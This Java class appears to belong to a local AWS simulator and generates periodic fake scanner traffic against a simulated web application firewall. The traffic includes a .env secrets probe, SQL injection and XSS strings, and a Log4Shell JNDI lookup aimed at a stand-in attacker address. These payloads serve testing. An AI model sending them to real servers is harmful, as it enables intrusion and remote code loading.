package dev.slipway.simulated.waf;

import dev.slipway.simulated.aws.VirtualClock;
import dev.slipway.simulated.traffic.HttpCall;
import dev.slipway.simulated.traffic.HttpCall.Client;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.function.BiConsumer;

/**
 * What comes from the internet to whatever stands open: every ten minutes somebody tries a few well-known weaknesses, and somebody
 * else uploads a picture, which is no attack but looks like one to a rule of AWS's. On laptops, so that a firewall has something to report.
 */
public final class Scanners {
    private static final Duration EVERY = Duration.ofMinutes(10);
    private static final Client BOT = new Client("198.51.100.23", "NL");
    private static final Client CURIOUS = new Client("203.0.113.99", "US");
    private static final Map<String, String> PLAIN = Map.of("User-Agent", "curl/8.9.1");

    private record Request(String path, Map<String, String> headers, String method, Client client) {}

    private static final List<Request> ROUND = List.of(
            new Request("/.env", PLAIN, "GET", BOT),
            new Request("/wp-login.php", PLAIN, "POST", BOT),
            new Request("/search?q=1%27%20or%201=1--", PLAIN, "GET", CURIOUS),
            new Request("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", PLAIN, "GET", CURIOUS),
            new Request("/", Map.of("User-Agent", "${jndi:ldap://198.51.100.23/a}"), "GET", CURIOUS),
            new Request(
                    "/upload/picture.jpg",
                    Map.of("User-Agent", "Mozilla/5.0", "Content-Length", "240000", "Cookie", "session=secret"),
                    "POST",
                    Client.SOMEBODY));

    private final SimulatedWaf waf;
    private final BiConsumer<String, HttpCall> send;
    private final VirtualClock clock;

    /** @param send gives a request to the load balancer of an ARN */
    public Scanners(SimulatedWaf waf, VirtualClock clock, BiConsumer<String, HttpCall> send) {
        this.waf = waf;
        this.clock = clock;
        this.send = send;
    }

    /** Begins to look for load balancers that have a firewall, for as long as the account lives. */
    public void begin() {
        clock.after(EVERY, () -> {
            for (String balancer : waf.protectedBalancers()) {
                for (Request request : ROUND) {
                    send.accept(
                            balancer,
                            new HttpCall("", request.path(), request.headers(), request.method(), request.client()));
                }
            }
            begin();
        });
    }
}
